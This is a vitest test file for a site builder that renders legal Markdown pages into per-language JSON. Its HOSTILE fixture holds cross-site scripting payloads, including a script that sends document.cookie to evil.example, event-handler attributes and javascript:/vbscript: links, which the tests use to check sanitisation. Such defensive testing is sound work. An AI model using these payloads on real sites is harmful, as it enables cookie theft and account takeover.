import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import MarkdownIt from 'markdown-it';
import { afterAll, describe, expect, it } from 'vitest';
import type { LegalDocument } from '../contract/legal.ts';
import { legalChecks } from './legal-pages-check.ts';
import { isSafeHref, renderLegalMarkdown } from './legal-pages-markdown.ts';
import { writeLegalPages } from './legal-pages.ts';

const render = (source: string) => renderLegalMarkdown(new MarkdownIt(), source);

const HOSTILE = `# Terms <img src=x onerror="alert(1)">

Hello <b onclick="steal()">there</b> and <script>alert('inline')</script> friend.

<script>
document.location = 'https://evil.example/?c=' + document.cookie;
</script>

<div onmouseover="alert(2)">hover</div>

- [click](javascript:alert(3))
- [tab trick](java\tscript:alert(4))
- [data](data:text/html;base64,PHNjcmlwdD4=)
- [vb](VBScript:msgbox(5))
- [ok](https://example.org/help?a=1&b=2 "t")
- [also ok](/help/privacy)
- ![pixel](https://evil.example/p.png)

[ref]: javascript:alert(6)
See [this][ref].
`;

const roots: string[] = [];
afterAll(() => Promise.all(roots.map((r) => rm(r, { recursive: true, force: true }))));

describe('legal pages: Markdown rendering', () => {
  it('renders headings, paragraphs, lists, emphasis and links, and takes the first # as the title', () => {
    const out = render(
      '# Terms & Conditions\n\nIntro *soft* **strong**.\n\n## 1. Who\n\n- one\n- two\n\n1. first\n2. second\n\n### Small\n',
    );
    expect(out.title).toBe('Terms & Conditions');
    expect(out.html).toBe(
      '<p>Intro <em>soft</em> <strong>strong</strong>.</p>\n<h2>1. Who</h2>\n' +
        '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<ol>\n<li>first</li>\n<li>second</li>\n</ol>\n' +
        '<h3>Small</h3>',
    );
    expect(out.dropped).toEqual([]);
  });

  it('lets no script, event handler, javascript: link or raw HTML survive a hostile file', () => {
    const out = render(HOSTILE);
    const html = out.html.toLowerCase();
    for (const bad of ['<script', 'onerror', 'onclick', 'onmouseover', 'javascript', 'vbscript']) {
      expect(html).not.toContain(bad);
    }
    expect(html).not.toContain('data:');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<div');
    expect(html).not.toContain('<b ');
    expect(html).not.toContain('document.cookie');
    expect(out.title).toBe('Terms');
    // The labels of refused links stay as text; the allowed ones stay links.
    expect(out.html).toContain('<li>click</li>');
    expect(out.html).toContain(
      '<a href="https://example.org/help?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">ok</a>',
    );
    expect(out.html).toContain('<a href="/help/privacy">also ok</a>');
    expect(out.html).toContain('See this.');
    expect(out.dropped).toEqual(expect.arrayContaining(['raw HTML', 'an image']));
  });

  it('accepts only http(s) and relative link targets', () => {
    for (const ok of [
      'https://a.example/x',
      'http://a.example',
      '/help',
      './x',
      '#top',
      '?q=1',
      'x/y:z',
    ]) {
      expect(isSafeHref(ok), ok).toBe(true);
    }
    for (const bad of [
      'javascript:x',
      ' JavaScript:x',
      'java\nscript:x',
      'mailto:a@b.c',
      'data:x',
      '//evil.example',
      'https:/x',
    ]) {
      expect(isSafeHref(bad), bad).toBe(false);
    }
  });
});

describe('legal pages: build output', () => {
  it('writes one JSON per offered language and falls back to the default language, saying so', async () => {
    const root = await mkdtemp(join(tmpdir(), 'wl-legal-'));
    roots.push(root);
    const brandDir = join(root, 'brand');
    for (const [lang, page, text] of [
      ['en', 'terms', '# Terms\n\nEnglish terms.'],
      ['en', 'privacy', '# Privacy\n\nEnglish privacy.'],
      ['en', 'responsible-gaming', '# Play safe\n\nEnglish.'],
      ['th', 'terms', '# ข้อกำหนด\n\nภาษาไทย'],
    ] as const) {
      await mkdir(join(brandDir, 'legal', lang), { recursive: true });
      await writeFile(join(brandDir, 'legal', lang, `${page}.md`), text);
    }
    const siteDir = join(root, 'site');
    const result = await writeLegalPages({
      brandDir,
      siteDir,
      languages: ['EN', 'TH'],
      defaultLanguage: 'EN',
    });
    expect(result.files.sort()).toEqual(['legal/en.json', 'legal/th.json']);
    const th = JSON.parse(await readFile(join(siteDir, 'legal/th.json'), 'utf8')) as LegalDocument;
    expect(th.pages.terms).toMatchObject({ title: 'ข้อกำหนด', language: 'TH' });
    expect(th.pages.privacy).toMatchObject({ title: 'Privacy', language: 'EN' });
    expect(result.notes).toEqual([
      'legal: legal/th/privacy.md is missing; TH shows the EN text',
      'legal: legal/th/responsible-gaming.md is missing; TH shows the EN text',
    ]);
  });

  it('ships every demo brand page in every language the brand offers, without fallbacks', async () => {
    const root = await mkdtemp(join(tmpdir(), 'wl-legal-'));
    roots.push(root);
    for (const [brand, languages, defaultLanguage] of [
      ['aurora', ['EN', 'CN', 'TH', 'VI', 'UR'], 'EN'],
      ['lotus', ['VI', 'EN', 'TH', 'CN'], 'VI'],
    ] as const) {
      const result = await writeLegalPages({
        brandDir: join('brands', brand),
        siteDir: join(root, brand),
        languages,
        defaultLanguage,
      });
      expect(result.notes, brand).toEqual([]);
      expect(result.files).toHaveLength(languages.length);
    }
  });
});

describe('legal pages: validate', () => {
  const display = (name: string) => name;

  it('names the missing default-language file in one sentence', async () => {
    const root = await mkdtemp(join(tmpdir(), 'wl-legal-'));
    roots.push(root);
    await cp('brands/lotus/legal', join(root, 'legal'), { recursive: true });
    await rm(join(root, 'legal', 'vi', 'privacy.md'));
    const { problems, warnings } = await legalChecks(root, { defaultLanguage: 'VI' }, display);
    expect(warnings).toEqual([]);
    expect(problems.map((p) => [p.file, p.message])).toEqual([
      [
        'legal/vi/privacy.md',
        'the privacy page is missing in the default language VI: write legal/vi/privacy.md, which every other language falls back to',
      ],
    ]);
  });

  it('only warns about a brand with no legal folder at all', async () => {
    const root = await mkdtemp(join(tmpdir(), 'wl-legal-'));
    roots.push(root);
    const { problems, warnings } = await legalChecks(root, { defaultLanguage: 'EN' }, display);
    expect(problems).toEqual([]);
    expect(warnings[0]?.hint).toContain('legal/en/terms.md');
  });
});
